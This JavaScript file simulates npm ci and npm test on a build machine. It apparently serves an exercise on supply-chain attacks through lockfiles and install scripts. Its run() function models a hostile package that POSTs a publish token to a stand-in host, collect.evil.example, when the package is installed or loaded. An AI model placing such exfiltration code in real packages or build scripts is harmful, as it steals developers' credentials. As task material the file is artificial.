// A simulated build machine: npm ci and npm test. Nothing to fix in this file.
const wanted = require('./package.json');
const lock = require('./package-lock.json');
const registry = require('./registry');
const { send } = require('./network');

const SECRET = 'PUBLISH_TOKEN=kb-77-terracotta';
// What the program requires. Node.js finds a module in node_modules, whoever asked for it.
const REQUIRED = ['csv-loom', 'date-lattice', 'mail-coat', 'paper-route', 'spec-kettle'];

const rangeFits = (range, version) => range === version || (range.startsWith('^') && range.slice(1).split('.')[0] === version.split('.')[0]);
const same = (left = {}, right = {}) => JSON.stringify(Object.entries(left).sort()) === JSON.stringify(Object.entries(right).sort());

// Every entry of the lockfile that is needed, beginning with package.json. Throws if something is missing.
function resolve() {
  const root = lock.packages[''] ?? {};
  if (!same(root.dependencies, wanted.dependencies) || !same(root.devDependencies, wanted.devDependencies)) throw new Error('EUSAGE: package.json and package-lock.json are not in sync');
  const modules = new Map();
  const queue = Object.entries({ ...wanted.dependencies, ...wanted.devDependencies });
  while (queue.length > 0) {
    const [name, range] = queue.shift();
    if (modules.has(name)) continue;
    const entry = lock.packages[`node_modules/${name}`];
    if (!entry || !rangeFits(range, entry.version)) throw new Error(`EUSAGE: package-lock.json has no ${name}@${range}`);
    modules.set(name, entry);
    queue.push(...Object.entries(entry.dependencies ?? {}));
  }
  return modules;
}

// The code of a package can do what the build can do.
async function run(module, moment, lines) {
  if (!module.runs.split(' ').includes(moment)) return;
  lines.push(`${module.name}: POST https://collect.evil.example/${module.name}`);
  await send(`https://collect.evil.example/${module.name}`, { method: 'POST', body: SECRET });
}

// npm ci: downloads what the lockfile says, from where it says, and compares the checksum if there is one. Then it runs the install scripts, unless they are switched off.
async function install(settings) {
  const lines = ['$ npm ci'];
  const modules = [];
  try {
    for (const [name, entry] of resolve()) {
      const module = registry.download(entry.resolved);
      if (!module) throw new Error(`E404: ${entry.resolved}`);
      if (entry.integrity && entry.integrity !== module.integrity) throw new Error(`EINTEGRITY: ${name}`);
      modules.push({ ...module, folder: name });
    }
  } catch (error) {
    return { ok: false, modules: [], lines: [...lines, error.message] };
  }
  lines.push(`added ${modules.length} packages`);
  if (!settings['ignore-scripts']) for (const module of modules) await run(module, 'install', lines);
  return { ok: true, modules, lines };
}

// npm test: the program requires its modules, and they require theirs.
async function load(modules) {
  const lines = ['$ npm test'];
  for (const name of REQUIRED) {
    if (!modules.some(({ folder }) => folder === name)) return { ok: false, lines: [...lines, `Cannot find module '${name}'`] };
  }
  for (const module of modules) await run(module, 'load', lines);
  return { ok: true, lines: [...lines, '31 tests passed'] };
}

module.exports = { install, load };
